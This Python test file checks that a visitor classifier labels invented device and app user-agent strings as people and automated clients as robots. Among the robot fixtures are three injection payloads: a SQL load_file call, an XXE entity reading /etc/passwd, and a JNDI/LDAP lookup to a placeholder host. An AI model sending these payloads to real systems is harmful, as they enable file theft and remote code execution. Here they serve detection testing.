"""How agents are written: devices and apps that lists take for programs, and programs that say it in their own way.

All are made up, each for one principle (case C7): what is known of real lists is not copied here.
"""

from joey.sharing.visitor import classify

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
IE = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; {}; .NET CLR 2.0.50727)"

DEVICES = [
    # an app of a phone that names the device it runs on, where a card's fetch names none
    "WhatsApp/2.99.1 Android/9.0 Device/Quill-Q1",
    "WhatsApp+/2.99.1 Android/9.0 Device/Quill-Q1",
    "WhatsApp/2.99.1 iPhone_OS/9.3 Device/iPhone_9",
    # digits that end as the name of a program begins
    "QUILL TS1008/1.0 Mozilla/5.0 (Linux; U; Android 4.0; zh-cn) AppleWebKit/534.30 Version/4.0 Mobile Safari/534.30",
    # a television says what it can play; a speaker and a stick have grammars of their own
    "Mozilla/5.0 (Linux; Andr0id 9; Q2) AppleWebKit/537.36 Chrome/77.0 HbbTV/1.5.1 (+DRM;QUILL;Q2;1.0;Demon;) TVs",
    "Hybridcast/1.0 (;000001;QUILLTV;2;2;)",
    "Quill;Play1;tpapi Linux UPnP/1.0 Sonos/99.1-10000 (ZPQ1)",
    "Amazon;AFTQ1;0123456789abcdef;;tpapi;9.1.1",
    # old phones: makes, WAP, i-mode, and the number of a chip
    "AMOI-Q12",
    "QUILL-Q123",
    "QUILL-KTOUCH/Q930/Screen-240X320",
    "Sony/Q1234/Q1234 API 16",
    "Q380 2.0 WAP1.1",
    "Mozilla/5.0 (Q01A;FOMA;like Gecko)",
    "A/9.0/Quill/Q8/msm8909/unknown/-",
    # an office program or a service that names the Mac or the PC
    "Microsoft Office Word/99.1 (Mac OS/19.1; Desktop; zh-CN; AppStore; Apple/Mac99,1)",
    "Microsoft Office OneNote/99.0.1 (Windows/10.0; Desktop x64; zh-CN; Desktop app; Quill/Q 5)",
    "quill-service [macOS,19.1,20A1,MacBookAir99,2]",
    # Internet Explorer with what others put into it: a helper, a firm's address, another agent, a changed name
    IE.format("QQDownload 999"),
    IE.format("Banca Caboto"),
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; https://intranet.quill.example/; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0); Windows NT 5.1)",
    "Mozilla/4.0 (compatible; Quill; Windows NT 6.1; Trident/7.0; .NET CLR 3.5.30729)",
    # apps of phones that scan paper
    "Mozilla/5.0 (Linux; Android 14; Q1; wv) AppleWebKit/537.36 Chrome/124.0 Mobile Safari/537.36 CamScanner/9.9",
    # a code of one device, in which any letters may meet
    "Opera/9.80 (Linux sh4; U; HbbTV/1.1.1; FXM-" + "Q1bot/PuMp+crawl" * 3 + ") Presto/2.12",
    # browsers of old and rare systems
    "AmigaVoyager/9.2 (AmigaOS/MC680x0)",
    "VMS_Mosaic/9.0 (Motif;OpenVMS V9.9) libwww/2.12_Mosaic",
    "QuickTime/9.9 (qtver=9.9;os=Windows NT 6.0)",
    "ICE Browser/9.9 (Java 1.4.0; Windows 2000 5.0 x86)",
    "Mozilla/3.0 (compatible; AvantGo 9.9)",
    "libhttp/9.99 (PS Vita)",
    # a browser before its release, and an app that says whose phone it is
    "Quill%20Technology%20Preview/99.1 CFNetwork/760.5.1 Darwin/15.5.0 (x86_64)",
    "QuillGame/1.5 (android:2.3;device_model:Q-P350;google_account:quill@mail.example;encoded:true)",
    # behind a browser's agent a messenger's name is its own browser's, and so is that of a browser's app
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Snapchat/99.1",
    "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 Chrome/120.0 Mobile DuckDuckGo/99 Safari/537.36",
    # an app names the model once more, in brackets of its own
    "Mozilla/5.0 (Linux; Android 13; Q1; wv) Chrome/99.0 Instagram 99.0 Android (33/13; 480dpi; Spider; htc_bot)",
]
PROGRAMS = [
    # a proxy that fetches pictures for mail says through which host
    WINDOWS + " (via pictures.quill.example - quill proxy)",
    # what looks at pages by itself
    WINDOWS + " Quill Advisor",
    "Quill Parser (Linux; Android 14)",
    # a name and a comma before the browser it takes the place of
    "Hidden, Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/50.0 Safari/537.36",
    # what no browser writes
    "Mozilla/5.0 (Randomized by quill; Windows NT 5.0) Chrome/20.0",
    "Mozilla/5.0(Linux;Android 5.1;Q A33;wv) AppleWebKit/537.36(KHTML,link Gecko) Chrome/43.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE or Firefox mutant; not on Windows server;)",
    # a program where a phone has its model, and is the name of no phone
    "Mozilla/5.0 (Linux; U; Android 4.0.2; en-us; Catchpoint) AppleWebKit/534.30 Version/4.0 Mobile Safari/534.30",
    # code in the place of a name
    WINDOWS + "'+(select load_file('quill'))+'",
    "<!DOCTYPE q [<!ENTITY q SYSTEM 'file:///etc/passwd'> ]>" + WINDOWS,
    "${jndi:ldap://quill}" + WINDOWS,
    # engines of programs, with no browser around them
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/602.1 (KHTML, like Gecko) JavaFX/8.0 Safari/602.1",
    "Mozilla/4.0 (Windows 10 10.0) Java/1.8.0_351",
    "quill/2.6 (x64-darwin; v8/3.14; OpenSSL/1.0.1) node/0.10.32",
    # a download that the phone's system fetches: the page with the link was counted when it was opened
    "AndroidDownloadManager/9 (Linux; U; Android 9; Q1)",
    # libraries: by their language, by their word, and the engine of Java
    "(Android 9.9; Q-1 Build) Quill-Java/Android/9",
    "quill-sdk-java/9.9 Linux/9.9 android/9",
    "QuillLibrary:9.9 com.quill.android:3.4 Q1:android_9",
    "QuillApp/9.9 (org.quill; build:9; iOS 17.5.1) Alamofire/9.9",
    "ANDROID-com.quill/9.9 deviceModel/Q1 OSVersion/9 Oauth9Client/9.9 (JAVA 0)",
    "Mozilla/5.0+(Windows+10+10.0)+Java/1.8.0_999",
    # tools of developers and measuring
    "Mozilla/5.0 (Linux; Android 10; Q1; wv) AppleWebKit/537.36 Chrome/105.0 Mobile Safari/537.36 quilldevtools",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) profiler Safari/537.21",
    # a page's markup or data in the place of an agent
    "<li>" + WINDOWS + "</li>",
    "Quill: { &quot;parent&quot;: &quot;Chrome 99.0&quot;, &quot;platform&quot;: &quot;android&quot;",
    # an address that is as long as a code
    WINDOWS + " quill@" + "q9b8r7o6o5k4" * 4 + ".example",
    # an app that fetches icons names no engine; a kind of device alone is no browser
    "DuckDuckGo/99 (com.quill.android; Android API 99)",
    "DuckDuckGo/99 CFNetwork/1496.0.7 Darwin/23.5.0",
    "ipad",
    # a made-up app that fetches by itself, named beside a phone
    "QuillFeed/3 (iPhone; iOS 17.5; Scale/3.00)",
]


def test_devices_and_apps_of_people_are_people() -> None:
    taken = {agent: classify("GET", {"user-agent": agent}) for agent in DEVICES}

    assert [(agent, kind) for agent, kind in taken.items() if kind != "person"] == []


def test_programs_are_known_by_how_they_write() -> None:
    taken = {agent: classify("GET", {"user-agent": agent}) for agent in PROGRAMS}

    assert [(agent, kind) for agent, kind in taken.items() if kind != "robot"] == []
